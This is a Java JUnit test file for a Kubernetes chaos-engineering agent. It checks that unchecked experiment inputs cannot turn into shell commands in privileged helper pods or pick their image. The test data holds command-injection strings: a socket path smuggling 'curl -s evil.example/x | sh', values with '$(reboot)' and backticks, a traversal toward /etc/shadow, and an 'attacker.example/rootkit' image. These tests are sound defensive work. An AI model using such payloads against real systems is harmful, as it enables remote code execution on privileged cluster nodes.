package io.chaosplane.agent.k8s.fault;

import static io.chaosplane.agent.k8s.testing.FaultHarness.RUNNER_NAMESPACE;
import static io.chaosplane.agent.k8s.testing.FaultHarness.deployment;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.chaosplane.agent.fault.ActiveFault;
import io.chaosplane.agent.fault.FaultException;
import io.chaosplane.agent.k8s.testing.FaultHarness;
import io.chaosplane.protocol.catalog.FaultCatalog;
import io.chaosplane.protocol.catalog.FaultDefinition;
import io.chaosplane.protocol.catalog.FaultInputs;
import io.chaosplane.protocol.catalog.InputDefinition;
import io.chaosplane.protocol.linux.ExperimentInput;
import io.chaosplane.testsupport.kubernetes.SimulatedCluster;
import io.fabric8.kubernetes.api.model.Container;
import io.fabric8.kubernetes.api.model.Pod;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Helper pods run privileged, as root, with the host's PIDs: what an experiment says must never become a command in
 * them, nor choose their image. The values here reach the runner as a control plane that does not check them (an
 * older version, or one bypassed) would send them: the catalogue below has no patterns.
 */
class HelperPodInputsTest {

    private static final String CRAFTED_SOCKET = "/run/containerd/containerd.sock; curl -s evil.example/x | sh #";
    private static final String CRAFTED_INTERFACE = "eth0$(reboot)";

    @TempDir
    Path state;

    SimulatedCluster cluster;
    FaultHarness faults;
    final FaultCatalog unchecked = uncheckedCatalog();

    @BeforeEach
    void cluster() {
        cluster = new SimulatedCluster();
        cluster.node("node-a", Map.of("zone", "a"));
        cluster.deployment("shop", "checkout", 1, List.of("node-a"));
        faults = new FaultHarness(cluster, state, false);
    }

    @AfterEach
    void close() {
        faults.close();
        cluster.close();
    }

    @ParameterizedTest
    @ValueSource(strings = {"container-kill", "pod-network-latency", "pod-network-loss"})
    void aCraftedSocketPathIsRefusedBeforeAnyHelperPodExists(String fault) {
        FaultInputs inputs = unchecked(fault, "SOCKET_PATH", CRAFTED_SOCKET, "TOTAL_CHAOS_DURATION", "5s");

        assertThatThrownBy(() -> faults.inject(fault, deployment("shop", "checkout"), inputs))
                .isInstanceOf(FaultException.class)
                .hasMessageContaining("SOCKET_PATH is not a well-formed socket path")
                .hasMessageNotContaining("curl");

        assertThat(helpers()).isEmpty();
        assertThat(cluster.calls())
                .noneSatisfy(call -> assertThat(call.method() + " " + call.path())
                        .isEqualTo("POST /api/v1/namespaces/" + RUNNER_NAMESPACE + "/pods"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/run/containerd/../../etc/shadow.sock",
                "run/containerd/containerd.sock",
                "/run/containerd/containerd",
                "/run/containerd/containerd.sock\nreboot",
                "/run/$(id)/containerd.sock"
            })
    void onlyWellFormedSocketPathsAreMounted(String path) {
        FaultInputs inputs = unchecked("container-kill", "SOCKET_PATH", path, "TOTAL_CHAOS_DURATION", "5s");

        assertThatThrownBy(() -> faults.inject("container-kill", deployment("shop", "checkout"), inputs))
                .isInstanceOf(FaultException.class)
                .hasMessageContaining("SOCKET_PATH");
        assertThat(helpers()).isEmpty();
    }

    @Test
    void theNetworkHelperRunsTheSameScriptWhateverTheInputsAndReadsThemFromItsEnvironment() throws Exception {
        ActiveFault plain = faults.inject(
                "pod-network-loss",
                deployment("shop", "checkout"),
                unchecked("pod-network-loss", "TOTAL_CHAOS_DURATION", "5s"));
        Container first = helperContainer();
        faults.revert(plain);

        ActiveFault crafted = faults.inject(
                "pod-network-latency",
                deployment("shop", "checkout"),
                unchecked(
                        "pod-network-latency",
                        "NETWORK_INTERFACE",
                        CRAFTED_INTERFACE,
                        "DESTINATION_IPS",
                        "10.0.0.1,`reboot`",
                        "TOTAL_CHAOS_DURATION",
                        "5s"));
        Container second = helperContainer();

        assertThat(second.getCommand()).isEqualTo(first.getCommand());
        assertThat(String.join(" ", second.getCommand())).doesNotContain("reboot", "eth0");
        assertThat(second.getEnv())
                .anySatisfy(variable -> assertThat(variable.getValue()).isEqualTo(CRAFTED_INTERFACE))
                .anySatisfy(variable -> assertThat(variable.getValue()).isEqualTo("10.0.0.1 `reboot`"));
        faults.revert(crafted);
        assertThat(cluster.leftovers(RUNNER_NAMESPACE)).isEmpty();
    }

    @Test
    void theContainerKillHelperRunsTheRuntimesCommandWithoutAShell() throws Exception {
        ActiveFault fault = faults.inject(
                "container-kill",
                deployment("shop", "checkout"),
                unchecked("container-kill", "TOTAL_CHAOS_DURATION", "5s", "CHAOS_INTERVAL", "10s"));

        assertThat(faults.client()
                        .pods()
                        .inNamespace("shop")
                        .list()
                        .getItems()
                        .getFirst()
                        .getStatus()
                        .getContainerStatuses()
                        .getFirst()
                        .getRestartCount())
                .isEqualTo(1);
        faults.revert(fault);
        assertThat(ContainerKillFault.command(unchecked("container-kill", "SIGNAL", "SIGTERM"), "0123abcd"))
                .containsExactly(
                        "crictl",
                        "-r",
                        "unix:///run/containerd/containerd.sock",
                        "stop",
                        "--timeout",
                        "30",
                        "0123abcd");
        assertThat(ContainerKillFault.command(
                        unchecked(
                                "container-kill", "CONTAINER_RUNTIME", "docker", "SOCKET_PATH", "/var/run/docker.sock"),
                        "0123abcd"))
                .containsExactly(
                        "docker", "-H", "unix:///var/run/docker.sock", "kill", "--signal", "SIGKILL", "0123abcd");
    }

    @Test
    void theHelperImageIsTheRunnersWhateverTheExperimentSays() throws Exception {
        ActiveFault fault = faults.inject(
                "pod-network-latency",
                deployment("shop", "checkout"),
                unchecked(
                        "pod-network-latency",
                        "LIB_IMAGE",
                        "attacker.example/rootkit:1",
                        "TOTAL_CHAOS_DURATION",
                        "5s"));

        assertThat(helperContainer().getImage()).isEqualTo(FaultHarness.HELPER_IMAGE);
        faults.revert(fault);
    }

    private List<Pod> helpers() {
        return faults.client().pods().inNamespace(RUNNER_NAMESPACE).list().getItems();
    }

    private Container helperContainer() {
        return helpers().stream()
                .filter(pod -> pod.getMetadata().getDeletionTimestamp() == null)
                .findFirst()
                .orElseThrow()
                .getSpec()
                .getContainers()
                .getFirst();
    }

    private FaultInputs unchecked(String fault, String... namesAndValues) {
        List<ExperimentInput> inputs = new ArrayList<>();
        for (int i = 0; i < namesAndValues.length; i += 2) {
            inputs.add(new ExperimentInput(namesAndValues[i], namesAndValues[i + 1]));
        }
        return unchecked.resolve(fault, inputs);
    }

    /** The standard catalogue with every string input's pattern taken away. */
    static FaultCatalog uncheckedCatalog() {
        return new FaultCatalog(FaultCatalog.standard().faults().stream()
                .map(fault -> new FaultDefinition(
                        fault.name(),
                        fault.description(),
                        fault.platform(),
                        fault.category(),
                        fault.inputs().stream()
                                .map(HelperPodInputsTest::withoutPattern)
                                .toList(),
                        fault.rules(),
                        fault.permissions()))
                .toList());
    }

    private static InputDefinition withoutPattern(InputDefinition input) {
        return new InputDefinition(
                input.name(),
                input.type(),
                input.description(),
                input.required(),
                input.defaultValue(),
                input.min(),
                input.max(),
                input.allowedValues(),
                input.itemType(),
                input.percentAllowed(),
                null,
                input.unit());
    }
}
